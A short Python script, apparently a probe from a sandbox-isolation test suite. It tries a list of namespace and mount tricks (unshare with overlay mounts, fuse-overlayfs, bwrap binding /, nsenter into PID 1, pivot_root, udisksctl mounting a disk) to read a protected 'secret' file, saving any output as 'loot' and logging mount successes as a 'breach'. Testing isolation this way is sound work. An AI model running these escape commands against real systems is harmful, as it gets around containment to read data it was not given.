"""Layers: an overlay or a tmpfs over a hidden or frozen folder, by an own namespace or a helper program."""

# aims: secret
# control: none (it would mount things over the developer's)
import os
import shutil
import subprocess

from attack import attempt, breach, loot, target, tried

os.makedirs("upper", exist_ok=True)
os.makedirs("place", exist_ok=True)
tried()
for words in (
    ["unshare", "-Ur", "mount", "-t", "overlay", "x", "-o", f"lowerdir={target['vault']}:/usr", "place"],
    ["unshare", "-Urm", "cat", target["secret"]],
    ["fuse-overlayfs", "-o", "lowerdir=/usr", "place"],
    ["bwrap", "--bind", "/", "/", "cat", target["secret"]],
    ["mount", "--bind", target["vault"], "place"],
    ["fusermount", "-u", "place"],
    ["nsenter", "-t", "1", "-a", "cat", target["secret"]],
    ["pivot_root", ".", "place"],
    ["udisksctl", "mount", "-b", "/dev/sda1"],
):
    if shutil.which(words[0]):
        done = attempt(lambda words=words: subprocess.run(words, capture_output=True, timeout=3, text=True))
        if done is not None:
            loot(done.stdout)
            print(words[:2], done.returncode, done.stderr[:200])
            if done.returncode == 0 and "mount" in " ".join(words[:4]):
                breach(" ".join(words))
